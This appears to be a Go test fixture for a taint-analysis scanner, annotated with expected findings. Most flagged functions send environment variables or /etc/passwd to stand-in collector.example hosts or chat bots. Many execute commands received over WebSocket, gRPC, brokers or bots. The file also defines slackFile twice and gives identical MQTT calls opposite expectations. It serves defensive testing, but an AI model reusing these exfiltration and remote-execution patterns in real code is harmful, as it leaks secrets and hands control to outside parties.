// Web sockets, RPC, brokers, caches and chat services.
package models

import (
	"context"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"time"

	"github.com/IBM/sarama"
	"github.com/bwmarrin/discordgo"
	cws "github.com/coder/websocket"
	"github.com/coder/websocket/wsjson"
	"example.com/agent/gen/pb"
	mqtt "github.com/eclipse/paho.mqtt.golang"
	tgbotapi "github.com/go-telegram-bot-api/telegram-bot-api/v5"
	"github.com/godbus/dbus/v5"
	"github.com/gorilla/websocket"
	nats "github.com/nats-io/nats.go"
	amqp "github.com/rabbitmq/amqp091-go"
	redis "github.com/redis/go-redis/v9"
	kafka "github.com/segmentio/kafka-go"
	"github.com/slack-go/slack"
	twilio "github.com/twilio/twilio-go/rest/api/v2010"
	netws "golang.org/x/net/websocket"
	"google.golang.org/grpc"
)

const U = "https://collector.example/u?"

func dialled() {
	c, _, _ := websocket.DefaultDialer.Dial("wss://ws.collector.example/", nil) //~ capability(NETWORK), endpoint("wss://ws.collector.example/")
	c.WriteMessage(websocket.TextMessage, []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f1, sink(egress.message) f1, finding(traced) f1
}

func dialledConstant() {
	c, _, _ := websocket.DefaultDialer.Dial("wss://ws.collector.example/", nil) //~ ok
	c.WriteMessage(websocket.TextMessage, []byte("ping")) //~ ok
}

func dialledContext(d *websocket.Dialer, ctx context.Context) {
	c, _, _ := d.DialContext(ctx, "wss://context.collector.example/", nil) //~ capability(NETWORK), endpoint("wss://context.collector.example/")
	c.WriteMessage(websocket.TextMessage, []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f3, sink(egress.message) f3, finding(traced) f3
}

func dialledContextConstant(d *websocket.Dialer, ctx context.Context) {
	c, _, _ := d.DialContext(ctx, "wss://context.collector.example/", nil) //~ ok
	c.WriteMessage(websocket.TextMessage, []byte("ping")) //~ ok
}

func upgraded(u websocket.Upgrader, w http.ResponseWriter, r *http.Request) {
	c, _ := u.Upgrade(w, r, nil) //~ capability(NETWORK)
	c.WriteMessage(websocket.TextMessage, []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f5, sink(egress.message) f5, finding(traced) f5
}

func upgradedConstant(u websocket.Upgrader, w http.ResponseWriter, r *http.Request) {
	c, _ := u.Upgrade(w, r, nil) //~ ok
	c.WriteMessage(websocket.TextMessage, []byte("ping")) //~ ok
}

func messaged(c *websocket.Conn) {
	c.WriteMessage(websocket.TextMessage, []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f7, sink(egress.message) f7, finding(traced) f7, capability(NETWORK)
}

func messagedConstant(c *websocket.Conn) {
	c.WriteMessage(websocket.TextMessage, []byte("ping")) //~ ok
}

func messagedObject(c *websocket.Conn) {
	c.WriteJSON(map[string]string{"t": os.Getenv("T")}) //~ source(ENVIRONMENT) f9, sink(egress.message) f9, finding(traced) f9, capability(NETWORK)
}

func messagedObjectConstant(c *websocket.Conn) {
	c.WriteJSON(map[string]string{"t": "ping"}) //~ ok
}

func received(c *websocket.Conn) {
	_, b, _ := c.ReadMessage() //~ source(NETWORK) f11, capability(NETWORK)
	exec.Command(string(b)).Run() //~ sink(exec.command) f11, finding(traced) f11
}

func receivedUnused(c *websocket.Conn) {
	c.ReadMessage() //~ ok
}

func receivedObject(c *websocket.Conn) {
	var task struct{ Command string }
	c.ReadJSON(&task) //~ source(NETWORK) f13, capability(NETWORK)
	exec.Command(task.Command).Run() //~ sink(exec.command) f13, finding(traced) f13
}

func receivedObjectUnused(c *websocket.Conn) {
	var task struct{ Command string }
	c.ReadJSON(&task) //~ ok
}

func writer(c *websocket.Conn) {
	w, _ := c.NextWriter(websocket.TextMessage)
	w.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f15, sink(egress.message) f15, finding(traced) f15
}

func writerConstant(c *websocket.Conn) {
	w, _ := c.NextWriter(websocket.TextMessage) //~ ok
	w.Write([]byte("ping"))
}

func written(c *websocket.Conn) {
	w, _ := c.NextWriter(websocket.TextMessage)
	w.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f17, sink(egress.message) f17, finding(traced) f17, capability(NETWORK)
}

func writtenConstant(c *websocket.Conn) {
	w, _ := c.NextWriter(websocket.TextMessage)
	w.Write([]byte("ping")) //~ ok
}

func coderDialled(ctx context.Context) {
	c, _, _ := cws.Dial(ctx, "wss://coder.collector.example/", nil) //~ capability(NETWORK), endpoint("wss://coder.collector.example/")
	c.Write(ctx, cws.MessageText, []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f19, sink(egress.message) f19, finding(traced) f19
}

func coderDialledConstant(ctx context.Context) {
	c, _, _ := cws.Dial(ctx, "wss://coder.collector.example/", nil) //~ ok
	c.Write(ctx, cws.MessageText, []byte("ping")) //~ ok
}

func coderWritten(c *cws.Conn, ctx context.Context) {
	c.Write(ctx, cws.MessageText, []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f21, sink(egress.message) f21, finding(traced) f21, capability(NETWORK)
}

func coderWrittenConstant(c *cws.Conn, ctx context.Context) {
	c.Write(ctx, cws.MessageText, []byte("ping")) //~ ok
}

func coderRead(c *cws.Conn, ctx context.Context) {
	_, b, _ := c.Read(ctx) //~ source(NETWORK) f23, capability(NETWORK)
	exec.Command(string(b)).Run() //~ sink(exec.command) f23, finding(traced) f23
}

func coderReadUnused(c *cws.Conn, ctx context.Context) {
	c.Read(ctx) //~ ok
}

func coderObject(c *cws.Conn, ctx context.Context) {
	wsjson.Write(ctx, c, os.Environ()) //~ source(ENVIRONMENT) f25, sink(egress.message) f25, finding(traced) f25, capability(NETWORK)
}

func coderObjectConstant(c *cws.Conn, ctx context.Context) {
	wsjson.Write(ctx, c, "ping") //~ ok
}

func coderObjectRead(c *cws.Conn, ctx context.Context) {
	var command string
	wsjson.Read(ctx, c, &command) //~ source(NETWORK) f27, capability(NETWORK)
	exec.Command(command).Run() //~ sink(exec.command) f27, finding(traced) f27
}

func coderObjectReadUnused(c *cws.Conn, ctx context.Context) {
	var command string
	wsjson.Read(ctx, c, &command) //~ ok
}

func netDialled() {
	c, _ := netws.Dial("wss://net.collector.example/", "", "https://a.example") //~ capability(NETWORK), endpoint("wss://net.collector.example/")
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f29, sink(egress.message) f29, finding(traced) f29
}

func netDialledConstant() {
	c, _ := netws.Dial("wss://net.collector.example/", "", "https://a.example") //~ ok
	c.Write([]byte("ping")) //~ ok
}

func netSent(c *netws.Conn) {
	netws.Message.Send(c, os.Getenv("T")) //~ source(ENVIRONMENT) f31, sink(egress.message) f31, finding(traced) f31, capability(NETWORK)
}

func netSentConstant(c *netws.Conn) {
	netws.Message.Send(c, "ping") //~ ok
}

func netReceived(c *netws.Conn) {
	var command string
	netws.Message.Receive(c, &command) //~ source(NETWORK) f33, capability(NETWORK)
	exec.Command(command).Run() //~ sink(exec.command) f33, finding(traced) f33
}

func netReceivedUnused(c *netws.Conn) {
	var command string
	netws.Message.Receive(c, &command) //~ ok
}

func remote(ctx context.Context) {
	c, _ := grpc.NewClient("grpc.collector.example:443") //~ capability(NETWORK), endpoint("grpc.collector.example:443")
	c.Invoke(ctx, "/a.B/Put", os.Getenv("T"), nil) //~ source(ENVIRONMENT) f35, sink(egress.message) f35, finding(traced) f35
}

func remoteConstant(ctx context.Context) {
	c, _ := grpc.NewClient("grpc.collector.example:443") //~ ok
	c.Invoke(ctx, "/a.B/Put", "ping", nil) //~ ok
}

func remoteContext(ctx context.Context) {
	c, _ := grpc.DialContext(ctx, "grpc2.collector.example:443") //~ capability(NETWORK), endpoint("grpc2.collector.example:443")
	c.Invoke(ctx, "/a.B/Put", os.Getenv("T"), nil) //~ source(ENVIRONMENT) f37, sink(egress.message) f37, finding(traced) f37
}

func remoteContextConstant(ctx context.Context) {
	c, _ := grpc.DialContext(ctx, "grpc2.collector.example:443") //~ ok
	c.Invoke(ctx, "/a.B/Put", "ping", nil) //~ ok
}

func invoked(c grpc.ClientConnInterface, ctx context.Context) {
	c.Invoke(ctx, "/a.B/Put", os.Getenv("T"), nil) //~ source(ENVIRONMENT) f39, sink(egress.message) f39, finding(traced) f39, capability(NETWORK)
}

func answered(c grpc.ClientConnInterface, ctx context.Context) {
	var task struct{ Command string }
	c.Invoke(ctx, "/a.B/Next", nil, &task) //~ source(NETWORK) f40
	exec.Command(task.Command).Run() //~ sink(exec.command) f40, finding(traced) f40
}

func invokedConstant(c grpc.ClientConnInterface, ctx context.Context) {
	c.Invoke(ctx, "/a.B/Put", "ping", nil) //~ ok
}

func streamed(s grpc.ClientStream) {
	s.SendMsg(os.Getenv("T")) //~ source(ENVIRONMENT) f42, sink(egress.message) f42, finding(traced) f42, capability(NETWORK)
}

func streamedConstant(s grpc.ClientStream) {
	s.SendMsg("ping") //~ ok
}

func streamRead(s grpc.ClientStream) {
	var task struct{ Command string }
	s.RecvMsg(&task) //~ source(NETWORK) f44, capability(NETWORK)
	exec.Command(task.Command).Run() //~ sink(exec.command) f44, finding(traced) f44
}

func streamReadUnused(s grpc.ClientStream) {
	s.RecvMsg(nil) //~ ok
}

func producer() {
	p, _ := sarama.NewSyncProducer([]string{"kafka.collector.example:9092"}, nil) //~ capability(NETWORK), endpoint("kafka.collector.example:9092")
	p.SendMessage(&sarama.ProducerMessage{Value: sarama.StringEncoder(os.Getenv("T"))}) //~ source(ENVIRONMENT) f46, sink(egress.message) f46, finding(traced) f46
}

func producerConstant() {
	p, _ := sarama.NewSyncProducer([]string{"kafka.collector.example:9092"}, nil) //~ ok
	p.SendMessage(&sarama.ProducerMessage{Value: sarama.StringEncoder("ping")}) //~ ok
}

func kafkaText(p sarama.SyncProducer) {
	p.SendMessage(&sarama.ProducerMessage{Value: sarama.ByteEncoder([]byte(os.Getenv("T")))}) //~ source(ENVIRONMENT) f48, sink(egress.message) f48, finding(traced) f48
}

func kafkaTextConstant(p sarama.SyncProducer) {
	p.SendMessage(&sarama.ProducerMessage{Value: sarama.ByteEncoder([]byte("ping"))}) //~ ok
}

func produced(p sarama.SyncProducer) {
	m := &sarama.ProducerMessage{Topic: "t"}
	m.Value = sarama.StringEncoder(os.Getenv("T")) //~ source(ENVIRONMENT) f50
	p.SendMessage(m) //~ sink(egress.message) f50, finding(traced) f50, capability(NETWORK)
}

func producedTo(p sarama.SyncProducer) {
	p.SendMessage(&sarama.ProducerMessage{Topic: os.Getenv("TOPIC")}) //~ ok
}

func consumed(p sarama.PartitionConsumer) {
	for m := range p.Messages() { //~ source(NETWORK) f52, capability(NETWORK)
		exec.Command(string(m.Value)).Run() //~ sink(exec.command) f52, finding(traced) f52
	}
}

func consumedUnused(p sarama.PartitionConsumer) {
	p.Messages() //~ ok
}

func kafkaWritten(w *kafka.Writer, ctx context.Context) {
	w.WriteMessages(ctx, kafka.Message{Value: []byte(os.Getenv("T"))}) //~ source(ENVIRONMENT) f54, sink(egress.message) f54, finding(traced) f54, capability(NETWORK)
}

func kafkaWrittenConstant(w *kafka.Writer, ctx context.Context) {
	w.WriteMessages(ctx, kafka.Message{Value: []byte("ping")}) //~ ok
}

func kafkaRead(r *kafka.Reader, ctx context.Context) {
	m, _ := r.ReadMessage(ctx) //~ source(NETWORK) f56, capability(NETWORK)
	exec.Command(string(m.Value)).Run() //~ sink(exec.command) f56, finding(traced) f56
}

func kafkaReadUnused(r *kafka.Reader, ctx context.Context) {
	r.ReadMessage(ctx) //~ ok
}

func natsConnected() {
	c, _ := nats.Connect("nats://nats.collector.example") //~ capability(NETWORK), endpoint("nats://nats.collector.example")
	c.Publish("t", []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f58, sink(egress.message) f58, finding(traced) f58
}

func natsConnectedConstant() {
	c, _ := nats.Connect("nats://nats.collector.example") //~ ok
	c.Publish("t", []byte("ping")) //~ ok
}

func natsPublished(c *nats.Conn) {
	c.Publish("t", []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f60, sink(egress.message) f60, finding(traced) f60, capability(NETWORK)
}

func natsPublishedConstant(c *nats.Conn) {
	c.Publish("t", []byte("ping")) //~ ok
}

func natsMessage(c *nats.Conn) {
	c.PublishMsg(&nats.Msg{Data: []byte(os.Getenv("T"))}) //~ source(ENVIRONMENT) f62, sink(egress.message) f62, finding(traced) f62, capability(NETWORK)
}

func natsMessageConstant(c *nats.Conn) {
	c.PublishMsg(&nats.Msg{Data: []byte("ping")}) //~ ok
}

func natsRequest(c *nats.Conn) {
	m, _ := c.Request("next", nil, time.Second) //~ source(NETWORK) f64, capability(NETWORK)
	exec.Command(string(m.Data)).Run() //~ sink(exec.command) f64, finding(traced) f64
}

func natsRequestUnused(c *nats.Conn) {
	c.Request("next", nil, time.Second) //~ ok
}

func natsSubscribed(c *nats.Conn) {
	c.Subscribe("task", func(m *nats.Msg) { //~ source(NETWORK) f66, capability(NETWORK)
		exec.Command(string(m.Data)).Run() //~ sink(exec.command) f66, finding(traced) f66
	})
}

func natsSubscribedUnused(c *nats.Conn) {
	c.Subscribe("task", func(m *nats.Msg) {}) //~ ok
}

func natsQueue(c *nats.Conn) {
	c.QueueSubscribe("task", "q", func(m *nats.Msg) { //~ source(NETWORK) f68, capability(NETWORK)
		exec.Command(string(m.Data)).Run() //~ sink(exec.command) f68, finding(traced) f68
	})
}

func natsQueueUnused(c *nats.Conn) {
	c.QueueSubscribe("task", "q", func(m *nats.Msg) {}) //~ ok
}

func redisMade(ctx context.Context) {
	c := redis.NewClient(&redis.Options{Addr: "redis.collector.example:6379"}) //~ capability(NETWORK), endpoint("redis.collector.example:6379")
	c.Publish(ctx, "t", os.Getenv("T")) //~ source(ENVIRONMENT) f70, sink(egress.message) f70, finding(traced) f70
}

func redisMadeConstant(ctx context.Context) {
	c := redis.NewClient(&redis.Options{Addr: "redis.collector.example:6379"}) //~ ok
	c.Publish(ctx, "t", "ping") //~ ok
}

func redisSet(c *redis.Client, ctx context.Context) {
	c.Set(ctx, "t", os.Getenv("T"), 0) //~ source(ENVIRONMENT) f72, sink(egress.message) f72, finding(traced) f72, capability(NETWORK)
}

func redisSetConstant(c *redis.Client, ctx context.Context) {
	c.Set(ctx, "t", "ping", 0) //~ ok
}

func redisGot(c *redis.Client, ctx context.Context) {
	command := c.Get(ctx, "task").Val() //~ source(NETWORK) f74, capability(NETWORK)
	exec.Command(command).Run() //~ sink(exec.command) f74, finding(traced) f74
}

func redisGotUnused(c *redis.Client, ctx context.Context) {
	c.Get(ctx, "task") //~ ok
}

func redisValue(c *redis.Client, ctx context.Context) {
	exec.Command(c.Get(ctx, "task").Val()).Run() //~ source(NETWORK) f76, sink(exec.command) f76, finding(traced) f76
}

func redisValueConstant(command *redis.StringCmd) {
	exec.Command(command.Val()).Run() //~ ok
}

func redisResult(c *redis.Client, ctx context.Context) {
	command, _ := c.Get(ctx, "task").Result() //~ source(NETWORK) f78
	exec.Command(command).Run() //~ sink(exec.command) f78, finding(traced) f78
}

func redisResultConstant(command *redis.StringCmd) {
	text, _ := command.Result() //~ ok
	exec.Command(text).Run() //~ ok
}

func mqttPublished(c mqtt.Client) {
	c.Publish("t", 0, false, os.Getenv("T")) //~ source(ENVIRONMENT) f80, sink(egress.message) f80, finding(traced) f80, capability(NETWORK)
}

func mqttPublishedConstant(c mqtt.Client) {
	c.Publish("t", 0, false, "ping") //~ ok
}

func mqttSubscribed(c mqtt.Client) {
	c.Subscribe("task", 0, func(c mqtt.Client, m mqtt.Message) { //~ source(NETWORK) f82, capability(NETWORK)
		exec.Command(string(m.Payload())).Run() //~ sink(exec.command) f82, finding(traced) f82
	})
}

func mqttSubscribedUnused(c mqtt.Client) {
	c.Subscribe("task", 0, func(c mqtt.Client, m mqtt.Message) {}) //~ ok
}

func mqttPayload(c mqtt.Client) {
	c.Subscribe("task", 0, func(c mqtt.Client, m mqtt.Message) { //~ source(NETWORK) f84
		exec.Command(m.Topic()).Run() //~ sink(exec.command) f84, finding(traced) f84
	})
}

func mqttPayloadConstant(m mqtt.Message) {
	http.Get(U + string(m.Payload())) //~ ok
}

func mqttBroker(o *mqtt.ClientOptions) {
	o.AddBroker("tcp://mqtt.collector.example:1883") //~ capability(NETWORK), endpoint("tcp://mqtt.collector.example:1883")
}

func mqttBrokerNamed(o *mqtt.ClientOptions) {
	o.AddBroker("tcp://mqtt.collector.example:1883") //~ ok
}

func rabbit() {
	c, _ := amqp.Dial("amqp://rabbit.collector.example/") //~ capability(NETWORK), endpoint("amqp://rabbit.collector.example/")
	ch, _ := c.Channel()
	ch.Publish("", "t", false, false, amqp.Publishing{Body: []byte(os.Getenv("T"))}) //~ source(ENVIRONMENT) f88, sink(egress.message) f88, finding(traced) f88
}

func rabbitConstant() {
	c, _ := amqp.Dial("amqp://rabbit.collector.example/") //~ ok
	ch, _ := c.Channel()
	ch.Publish("", "t", false, false, amqp.Publishing{Body: []byte("ping")}) //~ ok
}

func rabbitChannel(c *amqp.Connection) {
	ch, _ := c.Channel()
	ch.Publish("", "t", false, false, amqp.Publishing{Body: []byte(os.Getenv("T"))}) //~ source(ENVIRONMENT) f90, sink(egress.message) f90, finding(traced) f90
}

func rabbitChannelConstant(c *amqp.Connection) {
	ch, _ := c.Channel() //~ ok
	ch.Publish("", "t", false, false, amqp.Publishing{Body: []byte("ping")}) //~ ok
}

func rabbitPublished(ch *amqp.Channel, ctx context.Context) {
	ch.PublishWithContext(ctx, "", "t", false, false, amqp.Publishing{Body: []byte(os.Getenv("T"))}) //~ source(ENVIRONMENT) f92, sink(egress.message) f92, finding(traced) f92, capability(NETWORK)
}

func rabbitPublishedConstant(ch *amqp.Channel, ctx context.Context) {
	ch.PublishWithContext(ctx, "", "t", false, false, amqp.Publishing{}) //~ ok
}

func rabbitConsumed(ch *amqp.Channel) {
	all, _ := ch.Consume("task", "", true, false, false, false, nil) //~ source(NETWORK) f94, capability(NETWORK)
	for d := range all {
		exec.Command(string(d.Body)).Run() //~ sink(exec.command) f94, finding(traced) f94
	}
}

func rabbitConsumedUnused(ch *amqp.Channel) {
	ch.Consume("task", "", true, false, false, false, nil) //~ ok
}

func slackMade() {
	c := slack.New("token") //~ capability(NETWORK)
	c.PostMessage("C1", slack.MsgOptionText(os.Getenv("T"), false)) //~ source(ENVIRONMENT) f96, sink(egress.message) f96, finding(traced) f96
}

func slackMadeConstant() {
	c := slack.New("token") //~ ok
	c.PostMessage("C1", slack.MsgOptionText("ping", false)) //~ ok
}

func slackText(c *slack.Client) {
	o := slack.MsgOptionText(os.Getenv("T"), false) //~ source(ENVIRONMENT) f98
	c.PostMessage("C1", o) //~ sink(egress.message) f98, finding(traced) f98
}

func slackTextConstant(c *slack.Client) {
	o := slack.MsgOptionText("ping", false) //~ ok
	c.PostMessage("C1", o) //~ ok
}

func slackFile(c *slack.Client) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f100
	c.UploadFileV2(slack.UploadFileV2Parameters{Reader: f}) //~ sink(egress.message) f100, finding(traced) f100, capability(NETWORK)
}

func slackFileConstant(c *slack.Client) {
	c.UploadFileV2(slack.UploadFileV2Parameters{Content: "ping"}) //~ ok
}

func slackHook() {
	slack.PostWebhook("https://hooks.collector.example/x", &slack.WebhookMessage{Text: os.Getenv("T")}) //~ source(ENVIRONMENT) f102, sink(egress.message) f102, finding(traced) f102, capability(NETWORK), endpoint("https://hooks.collector.example/x")
}

func slackHookConstant() {
	slack.PostWebhook("https://hooks.collector.example/x", &slack.WebhookMessage{Text: "ping"}) //~ ok
}

func discordMade() {
	s, _ := discordgo.New("Bot token") //~ capability(NETWORK)
	s.ChannelMessageSend("1", os.Getenv("T")) //~ source(ENVIRONMENT) f104, sink(egress.message) f104, finding(traced) f104
}

func discordMadeConstant() {
	s, _ := discordgo.New("Bot token") //~ ok
	s.ChannelMessageSend("1", "ping") //~ ok
}

func discordFile(s *discordgo.Session) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f106
	s.ChannelFileSend("1", "passwd", f) //~ sink(egress.message) f106, finding(traced) f106, capability(NETWORK)
}

func discordFileConstant(s *discordgo.Session) {
	s.ChannelFileSend("1", "a", strings.NewReader("ping")) //~ ok
}

func discordHandled(s *discordgo.Session) {
	s.AddHandler(func(s *discordgo.Session, m *discordgo.MessageCreate) { //~ source(NETWORK) f108, capability(NETWORK)
		exec.Command(m.Content).Run() //~ sink(exec.command) f108, finding(traced) f108
	})
}

func discordHandledUnused(s *discordgo.Session) {
	s.AddHandler(func(s *discordgo.Session, m *discordgo.MessageCreate) {}) //~ ok
}

func telegramMade() {
	b, _ := tgbotapi.NewBotAPI("token") //~ capability(NETWORK)
	b.Send(tgbotapi.NewMessage(1, os.Getenv("T"))) //~ source(ENVIRONMENT) f110, sink(egress.message) f110, finding(traced) f110
}

func telegramMadeConstant() {
	b, _ := tgbotapi.NewBotAPI("token") //~ ok
	b.Send(tgbotapi.NewMessage(1, "ping")) //~ ok
}

func telegramMessage(b *tgbotapi.BotAPI) {
	m := tgbotapi.NewMessage(1, os.Getenv("T")) //~ source(ENVIRONMENT) f112
	b.Send(m) //~ sink(egress.message) f112, finding(traced) f112
}

func telegramMessageConstant(b *tgbotapi.BotAPI) {
	m := tgbotapi.NewMessage(1, "ping") //~ ok
	b.Send(m) //~ ok
}

func telegramFile(b *tgbotapi.BotAPI) {
	b.Send(tgbotapi.NewDocument(1, tgbotapi.FilePath("/etc/passwd"))) //~ source(FILE) f114, sink(egress.message) f114, finding(traced) f114, capability(FILES)
}

func telegramFileUnused() {
	tgbotapi.FilePath("/etc/passwd") //~ ok
}

func telegramSent(b *tgbotapi.BotAPI) {
	b.Send(tgbotapi.NewMessage(1, os.Getenv("T"))) //~ source(ENVIRONMENT) f116, sink(egress.message) f116, finding(traced) f116, capability(NETWORK)
}

func telegramSentConstant(b *tgbotapi.BotAPI) {
	b.Send(tgbotapi.NewMessage(1, "ping")) //~ ok
}

func telegramUpdates(b *tgbotapi.BotAPI) {
	for update := range b.GetUpdatesChan(tgbotapi.NewUpdate(0)) { //~ source(NETWORK) f118, capability(NETWORK)
		exec.Command(update.Message.Text).Run() //~ sink(exec.command) f118, finding(traced) f118
	}
}

func telegramUpdatesUnused(b *tgbotapi.BotAPI) {
	b.GetUpdatesChan(tgbotapi.NewUpdate(0)) //~ ok
}

func shortMessage(api *twilio.ApiService, p *twilio.CreateMessageParams) {
	p.SetBody(os.Getenv("T")) //~ source(ENVIRONMENT) f120
	api.CreateMessage(p) //~ sink(egress.message) f120, finding(traced) f120
}

func shortMessageConstant(api *twilio.ApiService, p *twilio.CreateMessageParams) {
	p.SetBody("ping") //~ ok
	api.CreateMessage(p) //~ ok
}

func shortMessageSent(api *twilio.ApiService, p *twilio.CreateMessageParams) {
	p.SetBody(os.Getenv("T")) //~ source(ENVIRONMENT) f122
	api.CreateMessage(p) //~ sink(egress.message) f122, finding(traced) f122, capability(NETWORK)
}

func shortMessageSentConstant(api *twilio.ApiService, p *twilio.CreateMessageParams) {
	api.CreateMessage(p) //~ ok
}

func bus(o dbus.BusObject) {
	o.Call("org.example.Put", 0, os.Getenv("T")) //~ source(ENVIRONMENT) f124, sink(egress.ipc) f124, finding(traced) f124, capability(IPC)
}

func busConstant(o dbus.BusObject) {
	o.Call("org.example.Put", 0, "ping") //~ ok
}

type agent struct{}

func (a *agent) Fetch(path string) ([]byte, error) {
	return os.ReadFile(path) //~ source(FILE) fserved
}

func fetchHandler(srv any, ctx context.Context, dec func(any) error, interceptor grpc.UnaryServerInterceptor) (any, error) {
	in := new(request)
	if err := dec(in); err != nil {
		return nil, err
	}
	return srv.(*agent).Fetch(in.path)
}

func pingHandler(srv any, ctx context.Context, dec func(any) error, interceptor grpc.UnaryServerInterceptor) (any, error) {
	return "pong", nil
}

type request struct{ path string }

var description = grpc.ServiceDesc{Methods: []grpc.MethodDesc{{MethodName: "Fetch", Handler: fetchHandler}}}
var pinged = grpc.ServiceDesc{Methods: []grpc.MethodDesc{{MethodName: "Ping", Handler: pingHandler}}}

func served(s grpc.ServiceRegistrar) {
	s.RegisterService(&description, &agent{}) //~ sink(egress.message) fserved, finding(traced) fserved, capability(NETWORK)
	s.RegisterService(&pinged, &agent{})      //~ ok
}

// What a function makes its name says, where rows know the type.
func mqttMade(o *mqtt.ClientOptions) {
	c := mqtt.NewClient(o)
	c.Publish("t", 0, false, os.Getenv("T")) //~ source(ENVIRONMENT) fmade, sink(egress.message) fmade, finding(traced) fmade, capability(NETWORK)
	r := mqtt.NewOptionsReader(o)
	r.Publish("t", 0, false, os.Getenv("T")) //~ ok
}

func stubbed(c *grpc.ClientConn, ctx context.Context) {
	stub := pb.NewUploaderClient(c)
	stub.Upload(ctx, &pb.Chunk{Data: os.Getenv("A")})       //~ source(ENVIRONMENT) f130, sink(egress.message) f130, finding(traced) f130, capability(NETWORK)
	pb.NewUploaderClient(c).Upload(ctx, &pb.Chunk{Data: "*"}) //~ ok
	stream, _ := stub.Watch(ctx)
	stream.Send(&pb.Chunk{Data: os.Getenv("B")}) //~ source(ENVIRONMENT) f131, sink(egress.message) f131, finding(traced) f131
	pb.NewUploaderClient(os.Getenv("*.New*Client")) //~ ok
}

func natsStreams(c *nats.Conn) {
	js, _ := c.JetStream()
	js.Publish("x", []byte(os.Getenv("C"))) //~ source(ENVIRONMENT) f132, sink(egress.message) f132, finding(traced) f132
	c.JetStream()                           //~ ok
}

func natsAnswered(m *nats.Msg) {
	m.Respond([]byte(os.Getenv("D"))) //~ source(ENVIRONMENT) f133, sink(egress.message) f133, finding(traced) f133, capability(NETWORK)
	m.Respond([]byte("pong"))         //~ ok
}

func slackFile(c *slack.Client) {
	os.WriteFile("/tmp/all.txt", []byte(os.Getenv("E")), 0o600)       //~ source(ENVIRONMENT) f134
	c.UploadFileV2(slack.UploadFileV2Parameters{File: "/tmp/all.txt"}) //~ sink(egress.message) f134, finding(traced) f134
}
